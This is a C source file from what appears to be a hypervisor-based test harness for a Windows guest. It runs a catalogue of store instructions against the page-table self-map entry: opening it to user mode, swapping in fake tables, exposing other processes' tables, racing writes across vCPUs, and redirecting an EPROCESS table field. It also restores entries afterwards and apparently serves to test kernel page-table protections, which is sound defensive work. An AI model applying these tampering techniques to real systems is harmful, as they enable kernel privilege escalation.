// SPDX-License-Identifier: GPL-2.0
/* Attacks: the self-map entry is opened, by every kind of store. */
#include <stdio.h>
#include <string.h>

#include "winguest.h"

/* What the store leaves behind */
enum kind {
	OPEN,		/* the entry with U/S set */
	MOVE,		/* the entry with another frame */
	MOVE_OPEN,
	SECOND,		/* another entry that refers to the table, with U/S set */
	OTHER,		/* the same, to the table of another process */
};

static const struct store {
	const char *name;
	const char *routine;
	enum kind kind;
	bool map_only;		/* it takes the self-map away for a moment */
	bool avx, avx512;
} stores[] = {
	{ .name = "mov1", .routine = store_mov1 },
	{ .name = "mov2", .routine = store_mov2 },
	{ .name = "mov4", .routine = store_mov4 },
	{ .name = "mov8", .routine = store_mov8 },
	{ .name = "movups", .routine = store_movups },
	{ .name = "movdqu", .routine = store_movdqu },
	{ .name = "avx", .routine = store_avx, .avx = true },
	{ .name = "avx512", .routine = store_avx512, .avx = true, .avx512 = true },
	{ .name = "or1", .routine = store_or1 },
	{ .name = "or4", .routine = store_or4 },
	{ .name = "or8", .routine = store_or8 },
	{ .name = "lock-or", .routine = store_lock_or },
	{ .name = "bts", .routine = store_bts },
	{ .name = "lock-bts", .routine = store_lock_bts },
	{ .name = "xchg", .routine = store_xchg },
	{ .name = "cmpxchg", .routine = store_cmpxchg },
	{ .name = "cmpxchg16b", .routine = store_cmpxchg16b },
	{ .name = "rep-movsb", .routine = store_rep_movsb },
	{ .name = "rep-movsq", .routine = store_rep_movsq },
	{ .name = "zero-set", .routine = store_zero_set, .map_only = true },
	{ .name = "clear-set", .routine = store_clear_set, .map_only = true },
	{ .name = "frame", .routine = store_mov8, .kind = MOVE, .map_only = true },
	{ .name = "frame-user", .routine = store_mov8, .kind = MOVE_OPEN, .map_only = true },
	{ .name = "second", .routine = store_mov8, .kind = SECOND },
	{ .name = "other", .routine = store_mov8, .kind = OTHER },
	{ .name = "flood", .routine = store_flood },
};

#define ANSWER	512

void attack_list(void (*each)(const char *name))
{
	unsigned int i;

	for (i = 0; i < ARRAY_SIZE(stores); i++)
		each(stores[i].name);
	each("race");
}

static const struct store *store_by_name(const char *name)
{
	unsigned int i;

	for (i = 0; i < ARRAY_SIZE(stores); i++)
		if (name && !strcmp(stores[i].name, name))
			return &stores[i];
	return NULL;
}

/* One attack on one table */
struct target {
	const struct store *store;
	struct process *p;
	struct process *from;	/* NULL: through the self-map of the table itself */
	struct process *to;	/* whose table it lets in */
	enum table table;
	unsigned int slot;	/* of the entry that is written */
	uint64_t gpa, old, new;
};

static uint64_t read_entry(struct winguest *g, uint64_t gpa)
{
	return *(volatile uint64_t *)gpa_to_host(g, gpa);
}

/* A table of the attacker's own, which refers to itself */
static uint64_t fake_table(struct winguest *g, uint64_t table, uint64_t flags)
{
	uint64_t *fake = gpa_to_host(g, g->fake);

	memcpy(fake, gpa_to_host(g, table), PAGE);
	fake[g->slot] = g->fake | flags;
	return g->fake | flags;
}

static void set_values(struct winguest *g, struct target *t)
{
	uint64_t table = t->p->table[t->table];

	t->gpa = table + t->slot * 8;
	t->old = read_entry(g, t->gpa);
	switch (t->store->kind) {
	case OPEN:
		t->new = t->old | PTE_US;
		break;
	case MOVE:
		t->new = fake_table(g, table, t->old & ~PTE_FRAME);
		break;
	case MOVE_OPEN:
		t->new = fake_table(g, table, (t->old & ~PTE_FRAME) | PTE_US);
		break;
	case SECOND:
	case OTHER:
		t->new = t->to->table[t->table] | PTE_USER;
		break;
	}
}

static bool takes_a_slot(const struct store *store)
{
	return store->kind == SECOND || store->kind == OTHER;
}

/* Where the attacker finds the entry, and the tables that it has loaded for that */
static void aim(struct command *c, struct target *t, struct call *call)
{
	struct winguest *g = c->g;

	if (t->from) {
		call_prepare(g, call, t->from, KERNEL_TABLE, t->store->routine);
		call->regs.rdi = g->window + t->gpa;
	} else {
		call_prepare(g, call, t->p, t->table, t->store->routine);
		call->regs.rdi = self_map_address(g, g->slot, t->slot);
	}
	call->regs.rsi = t->new;
	call->regs.rdx = command_number(c, "count", 1000);
}

/* Adds what came of it to @said. */
static void shoot(struct command *c, struct vcpu *vcpu, struct target *t, char *said)
{
	struct winguest *g = c->g;
	struct call call;
	bool done;

	set_values(g, t);
	aim(c, t, &call);
	call.regs.r8 = vcpu->scratch;
	machine_call(vcpu, &call);
	if (call.outcome == CALL_BROKEN) {
		call_good(c, vcpu, &call);
		return;
	}
	done = call.outcome == CALL_DONE;
	snprintf(said + strlen(said), ANSWER - strlen(said),
		 " table=%s gpa=%#llx old=%#llx new=%#llx %s=%#llx now=%#llx",
		 t->table == KERNEL_TABLE ? "kernel" : "user", (unsigned long long)t->gpa,
		 (unsigned long long)t->old, (unsigned long long)t->new,
		 done ? "seen" : "fault", call.regs.rax,
		 (unsigned long long)read_entry(g, t->gpa));
}

/* An entry of the kernel half that nothing uses */
static unsigned int unused_slot(struct winguest *g, struct process *p, enum table table)
{
	uint64_t *entry = gpa_to_host(g, p->table[table]);
	unsigned int slot = 256;

	while (slot < 510 && (entry[slot] || slot == g->slot))
		slot++;
	return slot;
}

static struct process *attacker(struct command *c, const struct store *store,
				struct process *victim)
{
	const char *via = command_word(c, "via");
	uint32_t from = command_number(c, "from", victim->pid);
	struct process *p = process_by_pid(c->g, from);

	if (!p)
		answer(c, "error no process %u", from);
	if (via && strcmp(via, "self") && strcmp(via, "map"))
		answer(c, "error via %s?", via);
	if (via && !strcmp(via, "self") && (store->map_only || p != victim))
		answer(c, "error %s cannot go through the self-map here", store->name);
	if (store->map_only || p != victim || (via && !strcmp(via, "map")))
		return p;
	return NULL;
}

static void check_store(struct command *c, const struct store *store)
{
	if (store->avx && !machine_has_avx(&c->g->machine, store->avx512))
		answer(c, "error %s not supported by this host", store->name);
}

static void open_tables(struct command *c, const struct store *store, struct process *p,
			struct vcpu *vcpu, unsigned int tables)
{
	struct target t = { .store = store, .p = p };
	char said[ANSWER] = "";

	t.from = attacker(c, store, p);
	t.to = process_by_pid(c->g, command_number(c, "to", p->pid));
	check_store(c, store);
	if (!t.to)
		answer(c, "error to=P is no process");
	for (t.table = KERNEL_TABLE; t.table <= USER_TABLE; t.table++) {
		if (!(tables & TABLE(t.table)) || c->answered)
			continue;
		t.slot = c->g->slot;
		if (takes_a_slot(store))
			t.slot = command_number(c, "slot", unused_slot(c->g, p, t.table));
		shoot(c, vcpu, &t, said);
	}
	if (takes_a_slot(store))
		answer(c, "ok%s slot=%u", said, t.slot);
	answer(c, "ok%s", said);
}

/* vCPU 1 opens the entry again and again; user mode on vCPU 0 reads as often. */
static void run_race(struct command *c, struct process *p, enum table table)
{
	struct winguest *g = c->g;
	struct target t = { .store = store_by_name("flood"), .p = p, .from = p,
			    .table = table, .slot = g->slot };
	struct vcpu *reader = &g->machine.vcpu[0], *writer = &g->machine.vcpu[1];
	struct call reads, writes;

	if (g->machine.vcpus < 2)
		answer(c, "error a race takes two vCPUs");
	if (p->pid == 4)
		answer(c, "error System has no user mode");
	if (c->answered)
		return;
	set_values(g, &t);
	aim(c, &t, &writes);
	call_prepare(g, &reads, p, KERNEL_TABLE, guest_race);
	reads.regs.rdi = self_map_address(g, g->slot, g->slot);
	reads.regs.rdx = writes.regs.rdx;
	reads.regs.r10 = RACE_MAGIC;
	machine_post(reader, &reads);
	machine_post(writer, &writes);
	machine_wait(reader);
	machine_wait(writer);
	if (!call_good(c, reader, &reads) || !call_good(c, writer, &writes))
		return;
	answer(c, "ok reads=%llu faults=%llu gpa=%#llx old=%#llx new=%#llx now=%#llx",
	       reads.regs.r8, reads.regs.r9, (unsigned long long)t.gpa,
	       (unsigned long long)t.old, (unsigned long long)t.new,
	       (unsigned long long)read_entry(g, t.gpa));
}

void command_attack(struct command *c)
{
	const char *name = command_word(c, NULL);
	const struct store *store = store_by_name(name);
	struct process *p = command_process(c);
	struct vcpu *vcpu = command_vcpu(c);
	unsigned int tables;

	if (!p || !vcpu || !command_tables(c, p, &tables))
		return;
	if (!command_number(c, "count", 1) || command_number(c, "slot", 0) > 511)
		answer(c, "error out of range");
	if (name && !strcmp(name, "race"))
		run_race(c, p, tables & TABLE(USER_TABLE) ? USER_TABLE : KERNEL_TABLE);
	else if (store)
		open_tables(c, store, p, vcpu, tables);
	else
		answer(c, "error no attack %s", name ? name : "given");
}

/* What its EPROCESS says is the process' table: one of the attacker's own */
void command_redirect(struct command *c)
{
	struct winguest *g = c->g;
	struct process *p = command_process(c);
	uint64_t field, old, new;

	if (!p)
		return;
	field = p->eprocess + g->build.field[F_DTB];
	old = kva_get64(g, field);
	new = (fake_table(g, p->table[KERNEL_TABLE], PTE_USER) & PTE_FRAME) |
	      (old & ~PTE_FRAME);
	if (call_simple(c, store_mov8, p, field, new, 0))
		answer(c, "ok old=%#llx new=%#llx", (unsigned long long)old,
		       (unsigned long long)new);
}

/* The kernel's own stores: the entry as it should be, slot= empty */
void command_restore(struct command *c)
{
	struct winguest *g = c->g;
	struct process *p = command_process(c);
	uint64_t second = command_number(c, "slot", g->slot), entry;
	enum table table;

	if (second > 511)
		answer(c, "error slot is not below 512");
	for (table = KERNEL_TABLE; p && table <= USER_TABLE; table++) {
		if (!p->table[table])
			continue;
		entry = g->window + p->table[table];
		if (second != g->slot)
			call_simple(c, store_mov8, p, entry + second * 8, 0, 0);
		call_simple(c, store_mov8, p, entry + g->slot * 8,
			    self_entry(p->table[table]), 0);
	}
	answer(c, "ok");
}
